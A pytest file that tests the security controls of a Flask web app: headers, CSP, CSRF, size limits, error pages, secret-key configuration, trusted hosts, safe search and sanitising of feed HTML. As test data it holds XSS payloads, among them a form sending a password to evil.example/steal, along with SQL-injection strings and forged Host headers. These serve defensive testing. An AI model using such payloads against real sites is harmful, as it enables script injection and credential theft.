"""Security headers, markup without inline script, CSRF, the request size cap, error pages without a
traceback, production configuration, the local secret key, links built from BASE_URL, trusted hosts,
search that is text and never SQL, and feed HTML that never runs."""
from __future__ import annotations

import datetime as dt
import json
import os
import re
import socket
import stat
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import sqlalchemy as sa

import config
from config import TestConfig
from conftest import PASSWORD, login
from focalpoint import create_app
from focalpoint.security import CSP

ROOT = Path(__file__).resolve().parents[2]


# --- helpers --------------------------------------------------------------------------------------
class PageAudit(HTMLParser):
    """Everything in a page that could run script or inline style under a lax policy."""

    URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.script_srcs: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            self._in_script = True
            if not attributes.get("src"):
                self.problems.append("inline <script> block")
            else:
                self.script_srcs.append(attributes["src"])
        if tag == "style":
            self.problems.append("<style> block")
        if tag in ("iframe", "object", "embed", "frame", "base"):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if name == "style":
                self.problems.append(f"<{tag} style=...> inline style")
            if name in self.URL_ATTRS and value and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(
                    ("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.problems.append(f"script content {data.strip()[:40]!r}")


def audit_html(html: str) -> PageAudit:
    parser = PageAudit()
    parser.feed(html)
    parser.close()
    return parser


def assert_clean_page(response, where: str) -> None:
    if not response.mimetype == "text/html":
        return
    page = audit_html(response.get_data(as_text=True))
    assert page.problems == [], f"{where}: {page.problems}"
    for src in page.script_srcs:
        assert src.startswith(("/static/", "/bootstrap/static/")), f"{where}: script from {src}"


def assert_security_headers(response, where: str = "") -> None:
    headers = response.headers
    assert headers["Content-Security-Policy"] == CSP, where
    assert headers["X-Content-Type-Options"] == "nosniff", where
    assert headers["X-Frame-Options"] == "DENY", where
    # An invitation link's page sends no Referer at all: its address is the expert's secret.
    personal_link = response.request.path.startswith(("/respond/", "/review/", "/events/r/"))
    referrer = "no-referrer" if personal_link else "same-origin"
    assert headers["Referrer-Policy"] == referrer, where


def csrf_token(html: str) -> str:
    match = re.search(r'name="csrf_token"[^>]*value="([^"]+)"|value="([^"]+)"[^>]*name="csrf_token"', html)
    assert match, "no CSRF token in the page"
    return match.group(1) or match.group(2)


def other_app(app, **overrides):
    """A second app on the same database (another configuration, as another worker would run)."""
    return create_app(TestConfig, SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"], **overrides)


def dispose(app) -> None:
    from focalpoint.extensions import db

    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def make_notification(app, title: str, text: str = "", **kw) -> int:
    from focalpoint.extensions import db
    from focalpoint.notifications.services import create_manual

    with app.app_context():
        n = create_manual(title=title, text=text, link=kw.get("link"), published=kw.get("published"), actor=None)
        db.session.commit()
        return n.id


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# --- the Content-Security-Policy ------------------------------------------------------------------
def test_csp_forbids_inline_script_framing_and_plugins():
    directives = {}
    for part in CSP.split(";"):
        name, *values = part.split()
        directives[name] = values
    assert directives["script-src"] == ["'self'"]
    assert directives["default-src"] == ["'self'"]
    assert directives["style-src"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'none'"]
    assert directives["form-action"] == ["'self'"]
    assert "unsafe-inline" not in CSP and "unsafe-eval" not in CSP and "*" not in CSP


def test_pages_and_static_files_carry_the_security_headers(client, staff_client):
    for response, where in ((client.get("/login"), "login"), (staff_client.get("/"), "dashboard"),
                            (client.get("/static/app.js"), "static"), (client.get("/healthz"), "health")):
        assert response.status_code == 200, where
        assert_security_headers(response, where)
    dashboard = staff_client.get("/")
    assert dashboard.headers["Cache-Control"] == "no-store"
    assert "Strict-Transport-Security" not in dashboard.headers  # plain http in tests


def test_error_pages_carry_the_security_headers(client, make_user):
    make_user("expert@example.org", "expert")
    assert login(client, "expert@example.org").status_code == 302
    for path, method, code in (("/no/such/page", "GET", 404), ("/notifications", "GET", 403),
                               ("/healthz", "POST", 405)):
        response = client.open(path, method=method)
        assert response.status_code == code
        assert_security_headers(response, path)
        assert_clean_page(response, path)


def test_session_cookie_is_httponly_and_samesite(client, make_user):
    make_user("a@example.org", "staff")
    response = login(client, "a@example.org")
    cookie = next(v for v in response.headers.getlist("Set-Cookie") if v.startswith("focalpoint_session="))
    assert "HttpOnly" in cookie
    assert "SameSite=Lax" in cookie


def test_session_cookie_is_secure_when_the_site_is_served_over_https(app, make_user):
    make_user("a@example.org", "staff")
    secure = other_app(app, SESSION_COOKIE_SECURE=True, BASE_URL="https://nfp.example.org")
    response = login(secure.test_client(), "a@example.org")
    cookie = next(v for v in response.headers.getlist("Set-Cookie") if v.startswith("focalpoint_session="))
    assert "Secure" in cookie
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    dispose(secure)


# --- rendered markup: the whole walk ---------------------------------------------------------------
def test_no_page_of_the_walk_has_inline_script_handlers_or_styles(app, make_user):
    """Every GET page as every role, the admin's POST answers, and the error pages."""
    from focalpoint.auth.models import Administration
    from focalpoint.extensions import db
    from focalpoint.notifications import services as svc

    users = {role: make_user(f"{role}@example.org", role) for role in ("expert", "reviewer", "staff", "admin")}
    nid = make_notification(app, "EM/2031/07: Call for inputs", "Please submit your inputs by 15 March 2031.")
    with app.app_context():
        source = svc.add_source("Broken feed", f"http://127.0.0.1:{closed_port()}/feed.xml")
        source.last_error = "Connection refused <script>alert(1)</script>"
        source.last_error_at = dt.datetime.now(dt.timezone.utc)
        db.session.commit()
        deadlines = db.session.get(svc.Notification, nid).deadlines
        assert [d.date for d in deadlines] == [dt.date(2031, 3, 15)]
        values = {"notification_id": nid, "deadline_id": deadlines[0].id, "source_id": source.id,
                  "user_id": users["reviewer"],
                  "admin_id": db.session.scalar(sa.select(Administration.id).where(Administration.code == "BE-VL"))}
        # A call with an invitation whose link is a known token, and an invitation template.
        from focalpoint.experts.models import Expert
        from focalpoint.invitations.models import Invitation, InvitationTemplate
        from focalpoint.invitations.services import hash_token
        from focalpoint.nominations.models import NominationCall

        invitation = Invitation(call=NominationCall(title="Walk call", national_deadline=dt.date(2031, 6, 30)),
                                expert=Expert(first_name="In", last_name="Vited", email="invited@example.org"),
                                token_hash=hash_token("walk-token-0123456789abcdefghij"),
                                expires_at=dt.datetime(2031, 6, 30, 22, tzinfo=dt.timezone.utc))
        template = InvitationTemplate(name="Walk", language="en", subject="Walk {call}", body="{link}")
        db.session.add_all([invitation, template])
        db.session.commit()
        values.update(call_id=invitation.call_id, invitation_id=invitation.id, template_id=template.id,
                      token="walk-token-0123456789abcdefghij")
        # The invited expert's registry record, with a past role (the expert registry's pages).
        from focalpoint.experts.models import PastRole

        invitation.expert.roles_held.append(PastRole(role="LA", deliverable_text="Walk", year_from=2020))
        db.session.commit()
        values.update(expert_id=invitation.expert_id, role_id=invitation.expert.roles_held[0].id)
        # The call's slate, a lead, and an outbox message (calls and outbox pages).
        from focalpoint.mail import queue_email
        from focalpoint.nominations.models import Lead, Nomination

        nomination = Nomination(call_id=invitation.call_id, expert_id=invitation.expert_id)
        lead = Lead(call_id=invitation.call_id, name="Walk <b>lead</b>")
        db.session.add_all([nomination, lead])
        message = queue_email(to="x@example.org", subject="Walk <script>", text="t", html="<p>h</p>", idem_key="walk")
        db.session.commit()
        values.update(nomination_id=nomination.id, lead_id=lead.id, message_id=message.id)
        # A consultation the expert is invited to, with a comment, and an event with a registration.
        from walk_rows import ensure_consultation

        values.update(ensure_consultation("expert@example.org", users["expert"]))
        from walk_rows import ensure_plenary

        values.update({k: v for k, v in ensure_plenary("BE-VL").items() if k not in values})
        # A dated item's .ics (a notification's deadline); the reports' defaults (not in their paths).
        values.update(kind="notification-deadline", report="involvement", fmt="csv")
    rules = [r for r in app.url_map.iter_rules() if not (r.endpoint == "static" or r.endpoint.endswith(".static"))]
    seen = 0
    for role in ("anonymous", "expert", "reviewer", "staff", "admin"):
        client = app.test_client()
        if role != "anonymous":
            assert login(client, f"{role}@example.org").status_code == 302
        for rule in rules:
            path = rule.rule
            for name in rule.arguments:
                path = re.sub(rf"<(?:\w+:)?{name}>", str(values[name]), path)
            methods = ["GET"] + (["POST"] if role == "admin" and "POST" in rule.methods
                                 and rule.endpoint not in ("auth.logout", "notifications.feed_delete") else [])
            for method in methods:
                if method not in rule.methods:
                    continue
                response = client.open(path, method=method, data={} if method == "POST" else None)
                assert response.status_code != 500, f"{method} {path} as {role}"
                assert_security_headers(response, f"{method} {path} as {role}")
                assert_clean_page(response, f"{method} {path} as {role}")
                seen += response.mimetype == "text/html"
                if response.status_code == 302 and method == "POST":  # the page the browser lands on
                    landing = client.get(response.headers["Location"])
                    assert_clean_page(landing, f"after {method} {path} as {role}")
        for path in ("/no/such/page", "/notifications/999999"):
            assert_clean_page(client.get(path), f"GET {path} as {role}")
    assert seen >= 40


# --- CSRF ---------------------------------------------------------------------------------------
@pytest.fixture
def csrf_app(app):
    protected = other_app(app, WTF_CSRF_ENABLED=True)
    yield protected
    dispose(protected)


def test_login_without_the_csrf_token_is_refused_and_changes_nothing(app, csrf_app, make_user):
    from focalpoint.auth.models import LoginFailure, User
    from focalpoint.extensions import db

    make_user("a@example.org", "staff")
    client = csrf_app.test_client()
    refused = client.post("/login", data={"email": "a@example.org", "password": PASSWORD})
    assert refused.status_code == 400
    assert "The form has expired or was not sent from this site." in refused.get_data(as_text=True)
    assert_security_headers(refused)
    assert client.get("/").status_code == 302  # still anonymous
    with app.app_context():
        assert db.session.scalar(sa.select(User.last_login_at).where(User.email == "a@example.org")) is None
        assert db.session.scalar(sa.select(sa.func.count()).select_from(LoginFailure)) == 0

    token = csrf_token(client.get("/login").get_data(as_text=True))
    accepted = client.post("/login", data={"email": "a@example.org", "password": PASSWORD, "csrf_token": token})
    assert accepted.status_code == 302
    assert accepted.headers["Location"] == "/"
    assert client.get("/").status_code == 200


def test_logout_without_the_csrf_token_is_refused_and_keeps_the_session(app, csrf_app, make_user):
    from focalpoint.auth.models import User
    from focalpoint.extensions import db

    uid = make_user("a@example.org", "staff")
    client = csrf_app.test_client()
    token = csrf_token(client.get("/login").get_data(as_text=True))
    assert client.post("/login", data={"email": "a@example.org", "password": PASSWORD,
                                       "csrf_token": token}).status_code == 302
    assert client.post("/logout").status_code == 400
    assert client.post("/logout", data={"csrf_token": "forged"}).status_code == 400
    assert client.get("/").status_code == 200  # still logged in
    with app.app_context():
        assert db.session.get(User, uid).session_version == 1

    token = csrf_token(client.get("/").get_data(as_text=True))  # the logout button's form
    response = client.post("/logout", data={"csrf_token": token})
    assert response.status_code == 302
    assert response.headers["Location"] == "/login"
    assert client.get("/").status_code == 302
    with app.app_context():
        assert db.session.get(User, uid).session_version == 2


def test_triage_without_the_csrf_token_is_refused_and_changes_nothing(app, csrf_app, make_user):
    from focalpoint.audit import AuditEntry
    from focalpoint.extensions import db
    from focalpoint.notifications.models import Notification

    make_user("a@example.org", "staff")
    nid = make_notification(app, "EM/2031/08: Call for experts")
    client = csrf_app.test_client()
    token = csrf_token(client.get("/login").get_data(as_text=True))
    client.post("/login", data={"email": "a@example.org", "password": PASSWORD, "csrf_token": token})

    with app.app_context():
        audit_before = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry))
    refused = client.post(f"/notifications/{nid}/status", data={"status": "in_progress"})
    assert refused.status_code == 400
    with app.app_context():
        assert db.session.get(Notification, nid).status == "new"
        assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry)) == audit_before

    token = csrf_token(client.get(f"/notifications/{nid}").get_data(as_text=True))
    accepted = client.post(f"/notifications/{nid}/status", data={"status": "in_progress", "csrf_token": token})
    assert accepted.status_code == 302
    assert accepted.headers["Location"] == f"/notifications/{nid}#triage"
    with app.app_context():
        assert db.session.get(Notification, nid).status == "in_progress"
        actions = db.session.scalars(sa.select(AuditEntry.action).where(AuditEntry.object_id == nid)).all()
        assert "notification.status" in actions


# --- request size cap -----------------------------------------------------------------------------
def test_a_request_larger_than_the_cap_gets_the_friendly_413_page(app, staff_client):
    limit = app.config["MAX_CONTENT_LENGTH"]
    assert limit == 12 * 1024 * 1024
    body = b"title=x&text=" + b"a" * limit
    for client, path in ((app.test_client(), "/login"), (staff_client, "/notifications/new")):
        response = client.post(path, data=body, content_type="application/x-www-form-urlencoded")
        assert response.status_code == 413, path
        html = response.get_data(as_text=True)
        assert "Too large" in html
        assert "What you sent is larger than the site accepts." in html
        assert "Traceback" not in html
        assert_security_headers(response)


def test_an_upload_larger_than_the_cap_is_refused_before_it_is_read(app, staff_client):
    import io

    from focalpoint.extensions import db
    from focalpoint.notifications.models import Notification

    big = io.BytesIO(b"Subject: EM/2031/09: big\r\n\r\n" + b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1))
    response = staff_client.post("/notifications/upload", data={"file": (big, "big.eml")},
                                 content_type="multipart/form-data")
    assert response.status_code == 413
    assert "Too large" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Notification)) == 0


# --- no traceback, ever ---------------------------------------------------------------------------
def test_an_unexpected_error_shows_a_plain_500_page_and_rolls_back(app, caplog):
    from focalpoint.auth.models import Administration
    from focalpoint.extensions import db
    from focalpoint.notifications.models import FeedSource
    from focalpoint.security import public

    broken = other_app(app)
    seen_after_error = []

    @broken.post("/boom")
    @public
    def boom():
        db.session.add(FeedSource(name="half-written", url="http://example.org/feed", interval_minutes=60))
        db.session.flush()
        # A real database error: a second administration with an existing code.
        db.session.add(Administration(code="BE-VL", name="A copy that violates the unique code"))
        db.session.flush()
        return "unreachable"

    @broken.after_request
    def look(response):
        if response.status_code == 500:  # the handler rolled back: the session works, the row is gone
            seen_after_error.append(db.session.scalar(
                sa.select(sa.func.count()).select_from(FeedSource).where(FeedSource.name == "half-written")))
        return response

    response = broken.test_client().post("/boom")
    assert response.status_code == 500
    html = response.get_data(as_text=True)
    assert "Something went wrong" in html
    assert "The error has been recorded." in html
    for leak in ("Traceback", "IntegrityError", "INSERT", "administrations", "BE-VL", "half-written",
                 "sqlalchemy", "psycopg", "sqlite3", 'File "'):
        assert leak not in html, leak
    assert_security_headers(response)
    assert_clean_page(response, "500 page")
    assert seen_after_error == [0]
    assert any("unhandled error on POST /boom" in r.getMessage() for r in caplog.records)  # but logged
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(FeedSource)) == 0
    dispose(broken)


def test_an_exception_message_never_reaches_the_page(app):
    from focalpoint.security import public

    broken = other_app(app)

    @broken.get("/oops")
    @public
    def oops():
        raise RuntimeError("SELECT password_hash FROM users WHERE email = 'secret@example.org'")

    response = broken.test_client().get("/oops")
    assert response.status_code == 500
    html = response.get_data(as_text=True)
    assert "SELECT" not in html and "password_hash" not in html and "RuntimeError" not in html
    assert "Traceback" not in html
    dispose(broken)


# --- configuration -----------------------------------------------------------------------------------
GOOD_KEY = "k" * 8 + "Xq3-vT9_pL2mN8rB5wZ1yC4dF7gH0jK6"


@pytest.fixture
def production_env(monkeypatch):
    monkeypatch.setenv("FOCALPOINT_ENV", "production")
    monkeypatch.setenv("SECRET_KEY", GOOD_KEY)
    monkeypatch.setenv("DATABASE_URL", "postgresql://focalpoint@db.internal/focalpoint")
    return monkeypatch


def test_production_accepts_a_long_random_key_and_a_database(production_env):
    assert config.ProductionConfig.validate() is None
    assert config.get_config() is config.ProductionConfig


def test_production_refuses_to_start_without_a_secret_key(production_env):
    production_env.delenv("SECRET_KEY")
    with pytest.raises(RuntimeError, match="SECRET_KEY must be set"):
        config.ProductionConfig.validate()
    with pytest.raises(RuntimeError, match="SECRET_KEY must be set"):
        create_app("production")


@pytest.mark.parametrize("key", ["x" * 31, "short", ""])
def test_production_refuses_a_short_secret_key(production_env, key):
    production_env.setenv("SECRET_KEY", key)
    with pytest.raises(RuntimeError, match="SECRET_KEY must be set"):
        create_app("production")


@pytest.mark.parametrize("key", sorted(config.WEAK_SECRETS) + ["CHANGEME", "Dev", "changeme" * 4, "a" * 40,
                                 "secretsecretsecretsecretsecretsecret", "0123456701234567012345670123456701"])
def test_production_refuses_a_publicly_known_secret_key(production_env, key):
    production_env.setenv("SECRET_KEY", key)
    with pytest.raises(RuntimeError, match="SECRET_KEY must be set"):
        config.ProductionConfig.validate()


def test_production_refuses_to_start_without_database_url(production_env):
    production_env.delenv("DATABASE_URL")
    with pytest.raises(RuntimeError, match="DATABASE_URL must be set in production"):
        config.ProductionConfig.validate()
    with pytest.raises(RuntimeError, match="DATABASE_URL must be set in production"):
        create_app("production")


def test_unknown_environment_name_is_refused(monkeypatch):
    monkeypatch.setenv("FOCALPOINT_ENV", "staging")
    with pytest.raises(RuntimeError, match="FOCALPOINT_ENV must be one of"):
        create_app()


def test_production_app_uses_the_environment_in_a_fresh_process(tmp_path):
    """What a deployment does: the environment is set before Python starts."""
    env = {k: v for k, v in os.environ.items() if k not in ("SECRET_KEY", "DATABASE_URL", "BASE_URL")}
    env.update(FOCALPOINT_ENV="production", SECRET_KEY=GOOD_KEY, FOCALPOINT_INSTANCE=str(tmp_path / "instance"),
               DATABASE_URL="postgres://focalpoint@db.internal/focalpoint", BASE_URL="https://nfp.example.org/")
    code = ("import json; from focalpoint import create_app; app = create_app(); c = app.config; "
            "print(json.dumps([c['SECRET_KEY'], c['SQLALCHEMY_DATABASE_URI'], c['BASE_URL'], "
            "c['SESSION_COOKIE_SECURE'], c['FEED_BLOCK_PRIVATE'], c['ENV_NAME']]))")
    out = subprocess.run([sys.executable, "-c", code], env=env, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout.strip().splitlines()[-1]) == [
        GOOD_KEY, "postgresql+psycopg://focalpoint@db.internal/focalpoint", "https://nfp.example.org", True, True,
        "production"]
    assert not (tmp_path / "instance" / "secret_key").exists()


def test_a_local_install_generates_its_secret_key_once_and_keeps_it(monkeypatch, tmp_path):
    instance = tmp_path / "instance"
    monkeypatch.setenv("FOCALPOINT_INSTANCE", str(instance))
    monkeypatch.setattr(config.LocalConfig, "SECRET_KEY", None)
    monkeypatch.setattr(config.LocalConfig, "SQLALCHEMY_DATABASE_URI", None)
    first = create_app(config.LocalConfig)
    key_file = instance / "secret_key"
    assert key_file.is_file()
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    key = key_file.read_text().strip()
    assert len(key) >= 48
    assert first.config["SECRET_KEY"] == key
    assert first.config["SQLALCHEMY_DATABASE_URI"] == f"sqlite:///{instance / 'focalpoint.db'}"
    second = create_app(config.LocalConfig)
    assert second.config["SECRET_KEY"] == key
    assert key_file.read_text().strip() == key
    other = tmp_path / "other"
    monkeypatch.setenv("FOCALPOINT_INSTANCE", str(other))
    assert create_app(config.LocalConfig).config["SECRET_KEY"] != key  # one key per install
    for a in (first, second):
        dispose(a)


# --- links from configuration, trusted hosts -------------------------------------------------------
def test_external_url_uses_base_url_not_the_host_header(app):
    from flask import request, url_for

    from focalpoint.security import external_url

    with app.test_request_context("/", base_url="http://evil.example", headers={"Host": "evil.example"}):
        assert request.host == "evil.example"
        assert url_for("notifications.detail", notification_id=7, _external=True).startswith("http://evil.example/")
        assert external_url("notifications.detail", notification_id=7) == "http://focalpoint.test/notifications/7"
        assert external_url("auth.login", next="/x") == "http://focalpoint.test/login?next=/x"


def test_external_url_in_a_request_with_a_forged_host(app):
    from focalpoint.security import external_url, public

    linked = other_app(app, BASE_URL="https://nfp.example.org/focalpoint/")

    @linked.get("/link-for-mail")
    @public
    def link_for_mail():
        return external_url("notifications.detail", notification_id=42)

    response = linked.test_client().get("/link-for-mail", headers={"Host": "evil.example",
                                                                    "X-Forwarded-Host": "evil.example"})
    assert response.get_data(as_text=True) == "https://nfp.example.org/focalpoint/notifications/42"
    dispose(linked)


def test_trusted_hosts_refuse_another_host_header(app):
    guarded = other_app(app, TRUSTED_HOSTS=["focalpoint.test", ".nfp.example.org"])
    client = guarded.test_client()
    refused = client.get("/login", headers={"Host": "evil.example"})
    assert refused.status_code == 400
    text = refused.get_data(as_text=True)
    assert "Bad request" in text
    assert "Traceback" not in text and "evil.example" not in text
    assert_security_headers(refused)
    assert client.get("/login", headers={"Host": "focalpoint.test"}).status_code == 200
    assert client.get("/login", headers={"Host": "www.nfp.example.org"}).status_code == 200
    assert client.post("/login", data={"email": "x@example.org", "password": "whatever!!"},
                       headers={"Host": "evil.example:443"}).status_code == 400
    dispose(guarded)


def test_without_trusted_hosts_any_host_is_served(client):
    assert client.get("/login", headers={"Host": "anything.example"}).status_code == 200


# --- search is text, never SQL ---------------------------------------------------------------------
def _linked_ids(html: str, prefix: str) -> set[int]:
    return {int(m) for m in re.findall(rf'href="{re.escape(prefix)}(\d+)"', html)}


def test_notification_search_treats_quotes_and_wildcards_as_text(app, staff_client):
    ids = {
        "percent": make_notification(app, "Budget at 100% of plan"),
        "hundred": make_notification(app, "Budget at 1000 of plan"),
        "underscore": make_notification(app, "The snake_case reference"),
        "lookalike": make_notification(app, "The snakeXcase reference"),
        "quote": make_notification(app, "O'Brien wrote ' OR 1=1 -- in the title"),
        "plain": make_notification(app, "A plain title"),
    }

    def search(q):
        response = staff_client.get("/notifications", query_string={"q": q})
        assert response.status_code == 200, q
        return _linked_ids(response.get_data(as_text=True), "/notifications/")

    assert search("") == set(ids.values())
    assert search("%") == {ids["percent"]}
    assert search("100%") == {ids["percent"]}
    assert search("_") == {ids["underscore"]}
    assert search("snake_case") == {ids["underscore"]}
    assert search("' OR 1=1 --") == {ids["quote"]}
    assert search("' OR '1'='1") == set()
    assert search("\\") == set()
    assert search("%' OR 1=1 --") == set()


def test_user_search_treats_quotes_and_wildcards_as_text(app, admin_client):
    from focalpoint.auth.services import create_user
    from focalpoint.extensions import db

    with app.app_context():
        ids = {key: create_user(email, roles=["staff"], password=None, name=name).id for key, email, name in (
            ("percent", "pct@example.org", "Hundred% Sure"),
            ("hundred", "pctx@example.org", "Hundred0 Sure"),
            ("underscore", "snake_case@example.org", ""),
            ("lookalike", "snakeXcase@example.org", ""),
            ("quote", "quote@example.org", "' OR 1=1 --"),
        )}
        db.session.commit()

    def search(q):
        response = admin_client.get("/admin/users", query_string={"q": q})
        assert response.status_code == 200, q
        return _linked_ids(response.get_data(as_text=True), "/admin/users/")

    assert search("%") == {ids["percent"]}
    assert search("_") == {ids["underscore"]}
    assert search("snake_case") == {ids["underscore"]}
    assert search("' OR 1=1 --") == {ids["quote"]}
    assert search("%' OR 1=1 --") == set()
    assert len(search("")) == 6  # the five and the admin


# --- feed HTML never runs ---------------------------------------------------------------------------
HOSTILE = (
    "<p>Visible paragraph with a <a href=\"https://www.ipbes.net/ok\">safe link</a>.</p>"
    "<script>alert('script')</script>"
    "<img src=x onerror=\"alert('img')\">"
    "<a href=\"javascript:alert('href')\">js link</a>"
    "<a href=\" jav&#x09;ascript:alert('obfuscated')\">obfuscated link</a>"
    "<style>body { display: none }</style>"
    "<div style=\"background:url(javascript:alert(1))\" onclick=\"alert('click')\">styled div</div>"
    "<iframe src=\"https://evil.example/\"></iframe>"
    "<svg onload=\"alert('svg')\"><circle r=\"1\"/></svg>"
    "<form action=\"https://evil.example/steal\"><input name=\"password\"><button>Send</button></form>"
    "<object data=\"https://evil.example/x.swf\"></object>"
    "<p onmouseover=\"alert('p')\">hover text</p>"
)


def _body_of(html: str) -> str:
    match = re.search(r'<div class="notification-body[^"]*">(.*?)</div>\s*</section>', html, re.S)
    assert match, "no notification body in the page"
    return match.group(1)


def _assert_harmless(html: str) -> None:
    page = audit_html(html)
    assert page.problems == []
    assert all(src.startswith(("/static/", "/bootstrap/static/")) for src in page.script_srcs)
    body = _body_of(html)
    assert "Visible paragraph" in body and "hover text" in body and "styled div" in body
    assert '<a href="https://www.ipbes.net/ok" rel="noopener noreferrer nofollow">safe link</a>' in body
    for word in ("<script", "<style", "<iframe", "<svg", "<form", "<object", "<img", "<input", "onerror",
                 "onclick", "onload", "onmouseover", "javascript:", "alert("):
        assert word not in body.lower(), word


def test_hostile_feed_html_is_harmless_after_ingestion(app, staff_client):
    from focalpoint.extensions import db
    from focalpoint.notifications.feeds import parse_feed
    from focalpoint.notifications.services import add_source, ingest_entries

    rss = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>IPBES</title><link>https://www.ipbes.net/</link><description>x</description>
<item><title>EM/2031/11: Hostile &lt;script&gt;alert('title')&lt;/script&gt; notification</title>
<link>javascript:alert('link')</link><guid isPermaLink="false">hostile-1</guid>
<pubDate>Mon, 06 Jan 2031 09:00:00 GMT</pubDate>
<description><![CDATA[{HOSTILE}]]></description></item></channel></rss>""".encode()
    with app.app_context():
        source = add_source("Hostile", "https://feeds.example.org/rss")
        counts = ingest_entries(source, parse_feed(rss, {"Content-Type": "application/rss+xml"}).entries)
        db.session.commit()
        nid = counts.new_ids[0]
    response = staff_client.get(f"/notifications/{nid}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    _assert_harmless(html)
    assert "<script>alert" not in html  # the title is escaped text, not markup
    assert "javascript:" not in html
    for page in ("/notifications", "/"):
        assert audit_html(staff_client.get(page).get_data(as_text=True)).problems == []


def test_hostile_html_stored_before_sanitising_is_cleaned_when_rendered(app, staff_client):
    """Defence in depth: HTML that reached the database unsanitised is cleaned again on the page."""
    from focalpoint.extensions import db
    from focalpoint.notifications.models import Notification

    nid = make_notification(app, "EM/2031/12: Stored raw")
    with app.app_context():
        db.session.execute(sa.update(Notification).where(Notification.id == nid).values(summary_html=HOSTILE))
        db.session.commit()
    response = staff_client.get(f"/notifications/{nid}")
    assert response.status_code == 200
    _assert_harmless(response.get_data(as_text=True))


def test_two_processes_starting_at_once_share_one_local_secret_key(tmp_path):
    """The web server and the scheduler may start together on a fresh install."""
    import threading

    from focalpoint import _local_secret_key

    keys, errors = [], []
    barrier = threading.Barrier(8)

    def start():
        barrier.wait()
        try:
            keys.append(_local_secret_key(tmp_path))
        except Exception as exc:  # the bug this guards against: FileExistsError or an empty key
            errors.append(exc)

    threads = [threading.Thread(target=start) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert len(set(keys)) == 1 and len(keys[0]) >= 60
    assert sorted(p.name for p in tmp_path.iterdir()) == ["secret_key"]
